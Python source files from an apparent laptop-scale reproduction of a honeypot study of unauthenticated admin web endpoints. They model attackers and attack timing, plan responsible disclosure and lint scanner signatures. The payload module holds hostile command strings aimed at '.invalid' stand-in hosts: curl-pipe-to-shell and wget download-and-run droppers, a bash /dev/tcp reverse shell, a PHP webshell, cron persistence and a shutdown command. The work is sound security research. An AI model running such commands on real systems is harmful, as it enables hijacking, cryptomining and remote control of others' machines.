"""The attacker population, calibrated to the paper's §4 observations.

Construction targets (all from Tables 5-8 and Figure 4):

* per-application attack totals: Jenkins 4, WordPress 9, GravCMS 1,
  Docker 132, Hadoop 1,921, Jupyter Lab 29, Jupyter Notebook 99 — 2,195;
* a heavy tail: the top actor fires 719 attacks at Hadoop, the top five
  actors cause ~67% and the top ten ~84% of all attacks;
* ten cross-application actors (Figure 4's I-X) responsible for 419
  attacks, pairing Hadoop+Docker or Lab+Notebook (plus one
  Docker+Notebook actor with 14 source IPs);
* roughly 160 distinct source IPs and ~122 distinct payload groups;
* origin mix: Serverion BV (NL) and Gamers Club (BR) lead the attack
  sources, DigitalOcean spreads across many countries, Alexhost (MD)
  concentrates in one.

The population is data: edit the spec tables to model a different threat
landscape.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.attacker.payloads import (
    PAYLOAD_FACTORIES,
    Payload,
    vigilante_payload,
)
from repro.net.geo import IpMetadata
from repro.util.errors import ConfigError


@dataclass(frozen=True)
class AppPlan:
    """How often one actor hits one application, with how many payloads."""

    attacks: int
    payload_variants: int


@dataclass(frozen=True)
class ActorSpec:
    """Static description of one attacker."""

    name: str
    archetype: str                      # payload family key
    plans: dict[str, AppPlan]
    ip_count: int
    #: (country, asn, provider) pins for the heavy actors whose origin
    #: drives Tables 7/8; None -> drawn from the attacker profile.
    pinned_geo: tuple[tuple[str, str, str], ...] | None = None

    @property
    def total_attacks(self) -> int:
        return sum(plan.attacks for plan in self.plans.values())

    @property
    def pool_size(self) -> int:
        return max(plan.payload_variants for plan in self.plans.values())


def _plan(**apps: tuple[int, int]) -> dict[str, AppPlan]:
    return {slug.replace("_", "-"): AppPlan(*numbers) for slug, numbers in apps.items()}


_SERVERION = ("Netherlands", "AS211252", "Serverion BV")
_GAMERS = ("Brazil", "AS268624", "Gamers Club")
_DO_US = ("United States", "AS14061", "DigitalOcean")
_DO_SG = ("Singapore", "AS14061", "DigitalOcean")
_DO_IN = ("India", "AS14061", "DigitalOcean")
_ALEXHOST = ("Moldova", "AS200019", "Alexhost")
_EC2 = ("United States", "AS16509", "Amazon EC2")
_ROSTELECOM = ("Russia", "AS12389", "Rostelecom")
_TIMEWEB = ("Russia", "AS9123", "TimeWeb")
_M247 = ("United Kingdom", "AS9009", "M247")
_SOFTPLUS = ("Switzerland", "AS51395", "Softplus")
_HOMEPL = ("Poland", "AS12824", "home.pl")


#: Figure 4's cross-application actors (419 attacks total).
MULTI_APP_ACTORS: tuple[ActorSpec, ...] = (
    ActorSpec("actor-I", "miner",
              _plan(docker=(8, 1), jupyter_notebook=(12, 2)), ip_count=14),
    ActorSpec("actor-II", "kinsing",
              _plan(hadoop=(263, 2), docker=(63, 2)), ip_count=7,
              pinned_geo=(_SERVERION, _SERVERION, _DO_SG, _DO_US, _GAMERS,
                          _EC2, _ALEXHOST)),
    ActorSpec("actor-III", "kinsing",
              _plan(docker=(15, 1), hadoop=(20, 1)), ip_count=4),
    ActorSpec("actor-IV", "miner",
              _plan(hadoop=(5, 1), docker=(3, 1)), ip_count=2),
    ActorSpec("actor-V", "miner",
              _plan(hadoop=(4, 1), docker=(2, 1)), ip_count=2),
    ActorSpec("actor-VI", "miner",
              _plan(jupyterlab=(3, 1), jupyter_notebook=(5, 1)), ip_count=2),
    ActorSpec("actor-VII", "miner",
              _plan(jupyterlab=(2, 1), jupyter_notebook=(4, 1)), ip_count=2),
    ActorSpec("actor-VIII", "recon",
              _plan(jupyterlab=(2, 1), jupyter_notebook=(3, 1)), ip_count=2),
    ActorSpec("actor-IX", "recon",
              _plan(jupyterlab=(1, 1), jupyter_notebook=(2, 1)), ip_count=2),
    ActorSpec("actor-X", "recon",
              _plan(jupyterlab=(1, 1), jupyter_notebook=(1, 1)), ip_count=2),
)

#: The heavy single-application actors.
BIG_SINGLE_ACTORS: tuple[ActorSpec, ...] = (
    # The Monero miner that kills competitors and persists via cron.
    ActorSpec("hadoop-top", "monero-killer", _plan(hadoop=(719, 2)), ip_count=3,
              pinned_geo=(_SERVERION, _GAMERS, _DO_US)),
    ActorSpec("hadoop-2", "kinsing", _plan(hadoop=(150, 2)), ip_count=3,
              pinned_geo=(_GAMERS, _GAMERS, _DO_US)),
    ActorSpec("hadoop-3", "miner", _plan(hadoop=(140, 1)), ip_count=2,
              pinned_geo=(_SERVERION, _ALEXHOST)),
    ActorSpec("hadoop-4", "miner", _plan(hadoop=(136, 1)), ip_count=2,
              pinned_geo=(_ROSTELECOM, _ROSTELECOM)),
    ActorSpec("hadoop-5", "miner", _plan(hadoop=(90, 1)), ip_count=2,
              pinned_geo=(_SERVERION, _TIMEWEB)),
    ActorSpec("hadoop-6", "miner", _plan(hadoop=(80, 1)), ip_count=2,
              pinned_geo=(_DO_SG, _M247)),
    ActorSpec("hadoop-7", "botnet", _plan(hadoop=(75, 1)), ip_count=1,
              pinned_geo=(_EC2,)),
    ActorSpec("hadoop-8", "miner", _plan(hadoop=(65, 1)), ip_count=1,
              pinned_geo=(_HOMEPL,)),
    ActorSpec("docker-1", "kinsing", _plan(docker=(20, 1)), ip_count=4,
              pinned_geo=(_DO_IN, _DO_US, _SERVERION, _GAMERS)),
    ActorSpec("docker-2", "miner", _plan(docker=(12, 1)), ip_count=3),
    ActorSpec("docker-3", "miner", _plan(docker=(5, 1)), ip_count=2),
    ActorSpec("docker-4", "recon", _plan(docker=(2, 1)), ip_count=1),
    ActorSpec("docker-5", "recon", _plan(docker=(1, 1)), ip_count=1),
    ActorSpec("docker-6", "recon", _plan(docker=(1, 1)), ip_count=1),
    # CI and CMS attackers are slow and few.
    ActorSpec("jenkins-1", "miner", _plan(jenkins=(2, 1)), ip_count=1),
    ActorSpec("jenkins-2", "miner", _plan(jenkins=(1, 1)), ip_count=1),
    ActorSpec("jenkins-3", "recon", _plan(jenkins=(1, 1)), ip_count=1),
    ActorSpec("wordpress-1", "webshell", _plan(wordpress=(5, 1)), ip_count=2),
    ActorSpec("wordpress-2", "webshell", _plan(wordpress=(2, 1)), ip_count=1),
    ActorSpec("wordpress-3", "webshell", _plan(wordpress=(1, 1)), ip_count=1),
    ActorSpec("wordpress-4", "webshell", _plan(wordpress=(1, 1)), ip_count=1),
    ActorSpec("grav-1", "webshell", _plan(grav=(1, 1)), ip_count=1),
    # Notebook attackers, including the vigilante.
    ActorSpec("jlab-vigilante", "vigilante", _plan(jupyterlab=(8, 1)), ip_count=1),
    ActorSpec("jlab-2", "miner", _plan(jupyterlab=(4, 2)), ip_count=2),
    ActorSpec("jlab-3", "miner", _plan(jupyterlab=(3, 1)), ip_count=1),
    ActorSpec("jlab-4", "recon", _plan(jupyterlab=(2, 1)), ip_count=1),
    ActorSpec("jlab-5", "recon", _plan(jupyterlab=(1, 1)), ip_count=1),
    ActorSpec("jlab-6", "recon", _plan(jupyterlab=(1, 1)), ip_count=1),
    ActorSpec("jlab-7", "recon", _plan(jupyterlab=(1, 1)), ip_count=1),
    ActorSpec("jnotebook-1", "miner", _plan(jupyter_notebook=(10, 2)), ip_count=1),
    ActorSpec("jnotebook-2", "miner", _plan(jupyter_notebook=(8, 2)), ip_count=1),
    ActorSpec("jnotebook-3", "miner", _plan(jupyter_notebook=(6, 1)), ip_count=1),
    ActorSpec("jnotebook-4", "miner", _plan(jupyter_notebook=(5, 1)), ip_count=1),
    ActorSpec("jnotebook-5", "miner", _plan(jupyter_notebook=(4, 1)), ip_count=1),
    ActorSpec("jnotebook-6", "recon", _plan(jupyter_notebook=(3, 1)), ip_count=1),
    ActorSpec("jnotebook-7", "recon", _plan(jupyter_notebook=(2, 1)), ip_count=1),
)

#: Long-tail actor mass: (app, archetype, total attacks, actor count).
SMALL_ACTOR_MASS: tuple[tuple[str, str, int, int], ...] = (
    ("hadoop", "miner", 174, 34),
    ("jupyter-notebook", "recon", 34, 34),
)


def partition_heavy_tail(total: int, parts: int, rng: random.Random) -> list[int]:
    """Split ``total`` into ``parts`` positive integers, heavy-tailed.

    Deterministic given the RNG; every part >= 1; sum is exact.
    """
    if parts <= 0 or total < parts:
        raise ConfigError(f"cannot split {total} into {parts} positive parts")
    weights = [1.0 / (i + 1) ** 1.1 for i in range(parts)]
    scale = (total - parts) / sum(weights)
    sizes = [1 + int(w * scale) for w in weights]
    deficit = total - sum(sizes)
    index = 0
    while deficit > 0:
        sizes[index % parts] += 1
        deficit -= 1
        index += 1
    rng.shuffle(sizes)
    return sizes


def _small_actor_specs(rng: random.Random) -> list[ActorSpec]:
    specs = []
    for slug, archetype, total, count in SMALL_ACTOR_MASS:
        for index, size in enumerate(partition_heavy_tail(total, count, rng)):
            specs.append(
                ActorSpec(
                    name=f"{slug}-small-{index}",
                    archetype=archetype,
                    plans={slug: AppPlan(size, 1)},
                    ip_count=1,
                )
            )
    return specs


@dataclass
class Attacker:
    """A concrete attacker: spec plus materialised payloads and IPs."""

    spec: ActorSpec
    payload_pool: list[Payload]
    ips: list = field(default_factory=list)  # list[IPv4Address], filled by engine

    @property
    def name(self) -> str:
        return self.spec.name

    def payloads_for(self, slug: str) -> list[Payload]:
        plan = self.spec.plans[slug]
        return self.payload_pool[: plan.payload_variants]

    def pinned_metadata(self) -> list[IpMetadata] | None:
        if self.spec.pinned_geo is None:
            return None
        return [
            IpMetadata(country, asn, provider, True)
            for country, asn, provider in self.spec.pinned_geo
        ]


def _materialise(spec: ActorSpec) -> Attacker:
    if spec.archetype == "vigilante":
        pool = [vigilante_payload()]
    else:
        factory = PAYLOAD_FACTORIES.get(spec.archetype)
        if factory is None:
            raise ConfigError(f"unknown payload archetype {spec.archetype!r}")
        pool = [factory(spec.name, index) for index in range(spec.pool_size)]
    return Attacker(spec=spec, payload_pool=pool)


def build_attacker_population(rng: random.Random) -> list[Attacker]:
    """The full calibrated population (multi-app + big + long tail)."""
    specs = list(MULTI_APP_ACTORS) + list(BIG_SINGLE_ACTORS) + _small_actor_specs(rng)
    return [_materialise(spec) for spec in specs]


def expected_attack_totals() -> dict[str, int]:
    """Per-application attack totals implied by the spec tables."""
    totals: dict[str, int] = {}
    specs = list(MULTI_APP_ACTORS) + list(BIG_SINGLE_ACTORS)
    for spec in specs:
        for slug, plan in spec.plans.items():
            totals[slug] = totals.get(slug, 0) + plan.attacks
    for slug, _archetype, total, _count in SMALL_ACTOR_MASS:
        totals[slug] = totals.get(slug, 0) + total
    return totals
