"""Attack scheduling and execution.

Turns the attacker population into a concrete four-week schedule of
:class:`AttackEvent` values whose timing matches the paper's Table 6 and
Figure 3:

* Hadoop is hit within the first hour and then near-continuously (average
  gap ~20 minutes); Docker and Jupyter Notebook are hit at least every
  other day;
* WordPress sees one fast fluke attack (~3h) and then nothing for over a
  week; Jenkins and GravCMS wait days to weeks for their first attack;
* Jupyter Lab starts quiet and heats up toward the end of the study.

Events from the same source IP are kept more than the 15-minute analysis
window apart so each scheduled event is one *attack* by the paper's
definition.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.attacker.actors import Attacker, build_attacker_population
from repro.attacker.exploits import exploit_requests
from repro.attacker.payloads import Payload, PayloadKind
from repro.net.geo import ATTACKER_PROFILE, GeoDatabase
from repro.net.ipv4 import IPv4Address
from repro.net.network import allocate_addresses
from repro.util.clock import HOUR, MINUTE, WEEK

#: time of the first attack on each application, in hours (Table 6).
FIRST_ATTACK_HOURS: dict[str, float] = {
    "hadoop": 0.8,
    "wordpress": 2.8,
    "docker": 6.7,
    "jupyter-notebook": 48.0,
    "jupyterlab": 133.7,
    "jenkins": 172.4,
    "grav": 355.1,
}

#: timing style per application
_LATE_SKEW_APPS = frozenset({"jupyterlab"})       # heats up toward the end
_FLUKE_THEN_QUIET = frozenset({"wordpress"})      # one early hit, long gap
_MIN_IP_GAP = 20 * MINUTE                          # > the 15-min merge window


@dataclass(frozen=True)
class AttackEvent:
    """One attack: an actor fires one payload at one honeypot."""

    time: float
    attacker: str
    source_ip: IPv4Address
    slug: str
    payload: Payload


@dataclass
class AttackSchedule:
    """The full four-week schedule plus the actors behind it."""

    events: list[AttackEvent] = field(default_factory=list)
    attackers: list[Attacker] = field(default_factory=list)
    duration: float = 4 * WEEK

    def events_for(self, slug: str) -> list[AttackEvent]:
        return [event for event in self.events if event.slug == slug]

    def source_ips(self) -> set[int]:
        return {event.source_ip.value for event in self.events}

    def total_attacks(self) -> int:
        return len(self.events)


def _draw_times(
    rng: random.Random, slug: str, count: int, anchor: float, duration: float
) -> list[float]:
    """Attack times for one (actor, app) block of ``count`` events."""
    if count <= 0:
        return []
    times: list[float] = []
    if slug in _FLUKE_THEN_QUIET:
        # One early coincidence, then slow background scanning much later.
        times.append(anchor)
        quiet_until = min(anchor + 1.2 * WEEK, duration - HOUR)
        for _ in range(count - 1):
            times.append(rng.uniform(quiet_until, duration))
        return sorted(times)
    span = duration - anchor
    for _ in range(count):
        u = rng.random()
        if slug in _LATE_SKEW_APPS:
            u = u ** (1.0 / 3.0)  # density 3u^2: concentrated late
        times.append(anchor + u * span)
    return sorted(times)


def _enforce_ip_spacing(events: list[AttackEvent], duration: float) -> list[AttackEvent]:
    """Push events from the same IP apart so none merge in analysis."""
    by_ip: dict[int, list[AttackEvent]] = {}
    for event in sorted(events, key=lambda e: e.time):
        by_ip.setdefault(event.source_ip.value, []).append(event)
    spaced: list[AttackEvent] = []
    for ip_events in by_ip.values():
        previous = -_MIN_IP_GAP
        for event in ip_events:
            when = max(event.time, previous + _MIN_IP_GAP)
            when = min(when, duration - 1.0)
            if when <= previous:  # clamped into the ceiling: nudge forward
                when = previous + _MIN_IP_GAP
            spaced.append(
                AttackEvent(when, event.attacker, event.source_ip, event.slug,
                            event.payload)
            )
            previous = when
    spaced.sort(key=lambda e: e.time)
    return spaced


def build_schedule(
    seed: int = 7,
    duration: float = 4 * WEEK,
    geo: GeoDatabase | None = None,
    taken_ips: set[int] | None = None,
) -> AttackSchedule:
    """Materialise the population and schedule all 2,195 attacks.

    ``geo`` (if given) learns every attacker IP's origin so the analysis
    can reproduce Tables 7 and 8.  ``taken_ips`` avoids collisions with
    the scan-study population when both run in one simulation.
    """
    rng = random.Random(seed)
    taken = taken_ips if taken_ips is not None else set()
    attackers = build_attacker_population(rng)

    # Allocate source IPs and register their metadata.
    for attacker in attackers:
        attacker.ips = allocate_addresses(rng, attacker.spec.ip_count, taken)
        pinned = attacker.pinned_metadata()
        if geo is not None:
            for index, ip in enumerate(attacker.ips):
                if pinned is not None:
                    geo.assign_fixed(ip, pinned[index % len(pinned)])
                else:
                    geo.assign(ip, rng, ATTACKER_PROFILE)

    # Which actor fires the very first attack on each app?  The largest
    # plan gets the anchor so the "first compromise" timing is stable.
    anchor_owner: dict[str, str] = {}
    best_volume: dict[str, int] = {}
    for attacker in attackers:
        for slug, plan in attacker.spec.plans.items():
            if plan.attacks > best_volume.get(slug, 0):
                best_volume[slug] = plan.attacks
                anchor_owner[slug] = attacker.name

    events: list[AttackEvent] = []
    for attacker in attackers:
        for slug, plan in attacker.spec.plans.items():
            payloads = attacker.payloads_for(slug)
            anchor = FIRST_ATTACK_HOURS.get(slug, 24.0) * HOUR
            if anchor_owner.get(slug) != attacker.name:
                if slug in _FLUKE_THEN_QUIET:
                    # Everyone but the fluke arrives after the quiet week.
                    anchor = max(anchor + 1.2 * WEEK,
                                 rng.uniform(1.3 * WEEK, 2.5 * WEEK))
                else:
                    # Non-anchor actors arrive somewhat later.
                    anchor = anchor + rng.uniform(0.5 * HOUR, 36 * HOUR)
            times = _draw_times(rng, slug, plan.attacks, anchor, duration)
            if anchor_owner.get(slug) == attacker.name and times:
                times[0] = FIRST_ATTACK_HOURS.get(slug, 24.0) * HOUR
            for index, when in enumerate(times):
                events.append(
                    AttackEvent(
                        time=when,
                        attacker=attacker.name,
                        source_ip=attacker.ips[index % len(attacker.ips)],
                        slug=slug,
                        payload=payloads[index % len(payloads)],
                    )
                )

    events = _enforce_ip_spacing(events, duration)
    return AttackSchedule(events=events, attackers=attackers, duration=duration)


def execute_event(fleet, event: AttackEvent) -> bool:
    """Fire one attack at the honeypot fleet.

    Returns True if the honeypot accepted the traffic (it may be mid-
    restore and unreachable, like the paper's snapshot-restore windows).
    """
    delivered = False
    for request in exploit_requests(event.slug, event.payload):
        response = fleet.deliver(event.slug, event.time, event.source_ip, request)
        if response is not None:
            delivered = True
    if not delivered:
        return False
    # Side effects of a successful compromise:
    if event.payload.kind is PayloadKind.VIGILANTE:
        # The vigilante powers the machine off; availability monitoring
        # notices the outage and the fleet restores the snapshot.
        fleet.restore(event.slug)
    else:
        fleet.apply_payload_load(
            event.slug, event.payload.cpu_load, event.payload.network_load
        )
    return True
