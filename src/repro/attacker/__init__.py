"""Generative attacker model for the honeypot study (paper §4).

Real attackers cannot be reproduced on demand, so this package generates
an attack stream with the *statistical shape* the paper observed:

* 2,195 attacks from ~160 IPs against 7 of the 18 honeypots;
* a heavy tail — five actors cause two thirds of all compromises;
* Internet-wide scanners (Kinsing-style cryptomining campaigns) hammering
  Hadoop and Docker around the clock, slower manual CMS hijacks, and one
  vigilante shutting down Jupyter Lab;
* actors that reuse payloads across applications and rotate source IPs.

All payloads are inert strings; nothing here is executable malware.
"""

from repro.attacker.payloads import Payload, PayloadKind
from repro.attacker.exploits import exploit_requests, SUPPORTED_TARGETS
from repro.attacker.actors import Attacker, build_attacker_population
from repro.attacker.engine import AttackEvent, AttackSchedule, build_schedule

__all__ = [
    "Payload",
    "PayloadKind",
    "exploit_requests",
    "SUPPORTED_TARGETS",
    "Attacker",
    "build_attacker_population",
    "AttackEvent",
    "AttackSchedule",
    "build_schedule",
]
