"""Attack payload library.

Payloads are **inert strings** modelled on public reporting about the
campaigns the paper observed (Kinsing, generic Monero miners, one
vigilante).  Each carries a resource profile so the honeypots' out-of-band
resource monitor has something to trip on, and a stable fingerprint so the
analysis can group repeated attacks "with known payloads".
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.util.rand import stable_hash


class PayloadKind(enum.Enum):
    CRYPTOMINER = "cryptominer"
    WEBSHELL = "webshell"
    VIGILANTE = "vigilante"
    RECON = "recon"
    BOTNET = "botnet"


@dataclass(frozen=True)
class Payload:
    """One concrete payload variant."""

    name: str
    kind: PayloadKind
    command: str
    cpu_load: float        # % of one core once running
    network_load: float    # Mbps once running
    persists: bool = False  # installs a cronjob / systemd unit

    @property
    def fingerprint(self) -> int:
        return stable_hash("payload", self.command)


def kinsing_variant(actor: str, index: int) -> Payload:
    """Kinsing-style cryptominer: download-and-run a dropper script.

    The real campaign "initially focused on insecure Docker instances
    [and] is now also spreading to Hadoop".
    """
    return Payload(
        name=f"kinsing/{actor}/{index}",
        kind=PayloadKind.CRYPTOMINER,
        command=(
            f"curl -fsSL hxxp://dropper.{actor}.invalid/k{index}.sh | sh && "
            f"(crontab -l; echo '* * * * * kinsing.{actor}') | crontab - "
            "# [inert simulation string]"
        ),
        cpu_load=95.0,
        network_load=2.0,
        persists=True,
    )


def monero_killer_variant(actor: str, index: int) -> Payload:
    """Miner that kills competing malware and persists via cron."""
    return Payload(
        name=f"monero-killer/{actor}/{index}",
        kind=PayloadKind.CRYPTOMINER,
        command=(
            f"pkill-competitors && (crontab -l; echo '* * * * * miner.{actor}.{index}') "
            "| crontab - && run-xmrig # [inert simulation string]"
        ),
        cpu_load=98.0,
        network_load=1.0,
        persists=True,
    )


def generic_miner_variant(actor: str, index: int) -> Payload:
    return Payload(
        name=f"miner/{actor}/{index}",
        kind=PayloadKind.CRYPTOMINER,
        command=(
            f"wget -q hxxp://pool.{actor}.invalid/m{index} -O /tmp/m && /tmp/m "
            "# [inert simulation string]"
        ),
        cpu_load=90.0,
        network_load=1.5,
    )


def webshell_variant(actor: str, index: int) -> Payload:
    """PHP template webshell planted after a CMS installation hijack."""
    return Payload(
        name=f"webshell/{actor}/{index}",
        kind=PayloadKind.WEBSHELL,
        command=(
            f"<?php /* shell {actor}-{index} */ system($_GET['c']); ?> "
            "# [inert simulation string]"
        ),
        cpu_load=5.0,
        network_load=0.2,
        persists=True,
    )


def vigilante_payload() -> Payload:
    """The Jupyter Lab vigilante: shuts the insecure server down."""
    return Payload(
        name="vigilante/shutdown",
        kind=PayloadKind.VIGILANTE,
        command="shutdown -h now # you should add a password to this notebook",
        cpu_load=0.0,
        network_load=0.0,
    )


def recon_variant(actor: str, index: int) -> Payload:
    return Payload(
        name=f"recon/{actor}/{index}",
        kind=PayloadKind.RECON,
        command=f"uname -a; id; nproc # probe {actor}-{index} [inert]",
        cpu_load=1.0,
        network_load=0.1,
    )


def botnet_variant(actor: str, index: int) -> Payload:
    return Payload(
        name=f"botnet/{actor}/{index}",
        kind=PayloadKind.BOTNET,
        command=(
            f"bash -i >& /dev/tcp/c2.{actor}.invalid/{4000 + index} 0>&1 "
            "# [inert simulation string]"
        ),
        cpu_load=10.0,
        network_load=60.0,  # trips the bandwidth threshold
    )


#: variant factories by archetype name (used by the actor builder)
PAYLOAD_FACTORIES = {
    "kinsing": kinsing_variant,
    "monero-killer": monero_killer_variant,
    "miner": generic_miner_variant,
    "webshell": webshell_variant,
    "recon": recon_variant,
    "botnet": botnet_variant,
}
