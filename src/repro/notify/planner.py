"""The disclosure planner: route each vulnerable host to a channel.

The planner only uses information a real discloser has: the IP metadata
service (provider/AS) and the certificate returned by an HTTPS probe.
It never reads simulator ground truth.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.net.geo import GeoDatabase
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.util.errors import TransportError
from repro.util.tables import Table

#: providers the paper contacted directly with "a list of all their
#: affected assets" — the big clouds with formal abuse programmes.
CLOUD_PROVIDERS: frozenset[str] = frozenset(
    {
        "Amazon EC2",
        "Amazon AES",
        "Google Cloud",
        "Alibaba",
        "Tencent Cloud",
        "DigitalOcean",
        "Microsoft Azure",
    }
)


class DisclosureChannel(enum.Enum):
    CLOUD_PROVIDER = "cloud-provider"
    SECURITY_EMAIL = "security-email"
    UNREACHABLE = "unreachable"


@dataclass(frozen=True)
class Notification:
    """One planned notification."""

    ip: IPv4Address
    slug: str
    channel: DisclosureChannel
    recipient: str  # provider name or email address; "" when unreachable


@dataclass
class DisclosurePlan:
    """All routed notifications, plus per-channel accessors."""

    notifications: list[Notification] = field(default_factory=list)

    def by_channel(self, channel: DisclosureChannel) -> list[Notification]:
        return [n for n in self.notifications if n.channel is channel]

    def provider_batches(self) -> dict[str, list[Notification]]:
        """Per-cloud-provider lists of affected assets."""
        batches: dict[str, list[Notification]] = {}
        for notification in self.by_channel(DisclosureChannel.CLOUD_PROVIDER):
            batches.setdefault(notification.recipient, []).append(notification)
        return batches

    def coverage(self) -> float:
        """Fraction of hosts reachable through some responsible channel."""
        if not self.notifications:
            return 0.0
        reachable = sum(
            1 for n in self.notifications
            if n.channel is not DisclosureChannel.UNREACHABLE
        )
        return reachable / len(self.notifications)

    def summary_table(self) -> Table:
        table = Table(
            "Responsible disclosure plan",
            ("Channel", "# Hosts", "Distinct recipients"),
        )
        for channel in DisclosureChannel:
            own = self.by_channel(channel)
            recipients = {n.recipient for n in own if n.recipient}
            table.add_row(channel.value, len(own), len(recipients))
        return table


@dataclass
class DisclosurePlanner:
    """Routes vulnerable hosts to disclosure channels."""

    transport: Transport
    geo: GeoDatabase
    #: ports to try when probing for a certificate, in order
    https_ports: tuple[int, ...] = (443,)

    def plan(
        self, findings: list[tuple[IPv4Address, str, int]]
    ) -> DisclosurePlan:
        """Route ``(ip, slug, port)`` findings.

        The app's own port is tried for a certificate before 443, since
        API-style AWEs often terminate TLS on their service port.
        """
        plan = DisclosurePlan()
        for ip, slug, port in findings:
            plan.notifications.append(self._route(ip, slug, port))
        return plan

    def _route(self, ip: IPv4Address, slug: str, port: int) -> Notification:
        metadata = self.geo.lookup(ip)
        if metadata.provider in CLOUD_PROVIDERS:
            return Notification(
                ip=ip, slug=slug,
                channel=DisclosureChannel.CLOUD_PROVIDER,
                recipient=metadata.provider,
            )
        for candidate_port in (port, *self.https_ports):
            try:
                certificate = self.transport.fetch_certificate(ip, candidate_port)
            except TransportError:
                continue  # transient failure: no channel via this port
            if certificate is None:
                continue
            domain = certificate.contact_domain()
            if domain is not None:
                return Notification(
                    ip=ip, slug=slug,
                    channel=DisclosureChannel.SECURITY_EMAIL,
                    recipient=f"security@{domain}",
                )
        return Notification(
            ip=ip, slug=slug, channel=DisclosureChannel.UNREACHABLE, recipient=""
        )
