"""Responsible disclosure of scan findings (paper §3.2).

"Reporting vulnerabilities discovered during an IP scan is a non-trivial
problem, as no direct connection to a domain name and thus email address
exists."  The paper's workflow — reproduced here:

1. if the IP belongs to a large cloud provider, batch it into a per-
   provider report (providers accept abuse reports for their ranges);
2. otherwise connect via HTTPS and, if the certificate names a domain,
   notify ``security@<domain>`` directly;
3. everything else is unreachable by responsible channels.
"""

from repro.notify.planner import (
    CLOUD_PROVIDERS,
    DisclosureChannel,
    DisclosurePlan,
    DisclosurePlanner,
    Notification,
)

__all__ = [
    "CLOUD_PROVIDERS",
    "DisclosureChannel",
    "DisclosurePlan",
    "DisclosurePlanner",
    "Notification",
]
