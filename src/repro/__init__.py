"""repro — reproduction of "No Keys to the Kingdom Required" (IMC 2022).

A complete, laptop-scale reproduction of the paper's study of *missing
authentication vulnerabilities* (MAVs) in administrative web endpoints:

* 25 application emulators with per-version security defaults
  (:mod:`repro.apps`);
* a census-calibrated simulated IPv4 Internet (:mod:`repro.net`);
* the paper's contribution — the three-stage masscan → prefilter →
  Tsunami scanning pipeline with a version fingerprinter
  (:mod:`repro.core`);
* high-interaction honeypots with Beats-style monitoring
  (:mod:`repro.honeypot`) and a calibrated attacker model
  (:mod:`repro.attacker`);
* two simulated commercial scanners (:mod:`repro.defender`);
* analyses reproducing Tables 1-9 and Figures 1-4
  (:mod:`repro.analysis`), driven end to end by
  :mod:`repro.experiments`.

Quickstart::

    from repro import StudyConfig, run_full_study
    print(run_full_study(StudyConfig.tiny()).render())
"""

from repro.experiments.config import StudyConfig
from repro.experiments.defenders import run_defender_study
from repro.experiments.full_study import FullStudy, run_full_study
from repro.experiments.honeypots import run_honeypot_study
from repro.experiments.observe import run_observer_study
from repro.experiments.scan import run_scan_study
from repro.core.pipeline import ScanPipeline
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport

__version__ = "1.0.0"

__all__ = [
    "StudyConfig",
    "FullStudy",
    "run_full_study",
    "run_scan_study",
    "run_observer_study",
    "run_honeypot_study",
    "run_defender_study",
    "ScanPipeline",
    "PopulationModel",
    "generate_internet",
    "InMemoryTransport",
    "__version__",
]
