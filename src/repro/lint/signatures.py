"""Signature-corpus auditor (``SIG*`` rules).

The stage-II prefilter is 90 hand-written regexes; this analyzer makes
their quality a machine-checked property.  It reads the ``SIGNATURES``
dict *statically* from ``core/prefilter.py`` (findings point at the
exact pattern line, and fixture trees lint without being imported) and
checks each pattern on three axes:

* **shape** — must compile, must not have catastrophic-backtracking
  structure (nested unbounded quantifiers, ambiguous alternation under a
  repeat), and must carry a literal run long enough to anchor on;
* **recall** — must match at least one canned page of its own
  application (a dead signature is a silent recall hole);
* **precision** — must match no canned page of any *other* application
  (an overlap sends wrong candidates to stage III and, at Internet
  scale, multiplies stage-III traffic).

The recall/precision checks are exactly the static precision matrix the
regression test in ``tests/core/test_signature_matrix.py`` locks in.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

try:  # Python 3.11+ moved the sre internals under re.
    from re import _constants as sre_constants
    from re import _parser as sre_parse
except ImportError:  # pragma: no cover - older interpreters
    import sre_constants
    import sre_parse

from repro.lint.findings import Finding

#: minimum guaranteed literal run for a signature to count as anchored
MIN_LITERAL_RUN = 4


def extract_signatures(
    path: Path,
) -> list[tuple[str, str, int]]:
    """``(slug, pattern, line)`` triples from a prefilter module's AST.

    Raises :class:`SyntaxError` if the module does not parse and
    :class:`ValueError` if no ``SIGNATURES`` dict literal is present —
    the auditor maps both onto findings.
    """
    tree = ast.parse(path.read_text(), filename=str(path))
    for node in ast.walk(tree):
        targets: list[ast.expr] = []
        if isinstance(node, ast.Assign):
            targets, value = node.targets, node.value
        elif isinstance(node, ast.AnnAssign) and node.value is not None:
            targets, value = [node.target], node.value
        else:
            continue
        names = {t.id for t in targets if isinstance(t, ast.Name)}
        if "SIGNATURES" not in names or not isinstance(value, ast.Dict):
            continue
        triples: list[tuple[str, str, int]] = []
        for key, patterns in zip(value.keys, value.values):
            if not isinstance(key, ast.Constant) or not isinstance(key.value, str):
                continue
            if not isinstance(patterns, (ast.Tuple, ast.List)):
                continue
            for element in patterns.elts:
                if isinstance(element, ast.Constant) and isinstance(element.value, str):
                    triples.append((key.value, element.value, element.lineno))
        return triples
    raise ValueError(f"no SIGNATURES dict literal in {path}")


# -- regex shape analysis ----------------------------------------------------

_REPEAT_OPS = (sre_constants.MAX_REPEAT, sre_constants.MIN_REPEAT)


def _is_variable_repeat(op, av) -> bool:
    return op in _REPEAT_OPS and av[0] != av[1]


def _contains_variable_repeat(parsed) -> bool:
    for op, av in parsed:
        if _is_variable_repeat(op, av):
            return True
        if op in _REPEAT_OPS and _contains_variable_repeat(av[2]):
            return True
        if op is sre_constants.SUBPATTERN and _contains_variable_repeat(av[3]):
            return True
        if op is sre_constants.BRANCH and any(
            _contains_variable_repeat(branch) for branch in av[1]
        ):
            return True
    return False


def _first_literals(parsed) -> set[object]:
    """Approximate first-character set of a parse tree (for overlap tests).

    Literal ints stand for themselves; the string ``"any"`` marks
    wildcards and character classes, which overlap with everything.
    """
    for op, av in parsed:
        if op is sre_constants.LITERAL:
            return {av}
        if op in (sre_constants.ANY, sre_constants.IN, sre_constants.NOT_LITERAL):
            return {"any"}
        if op in _REPEAT_OPS:
            first = _first_literals(av[2])
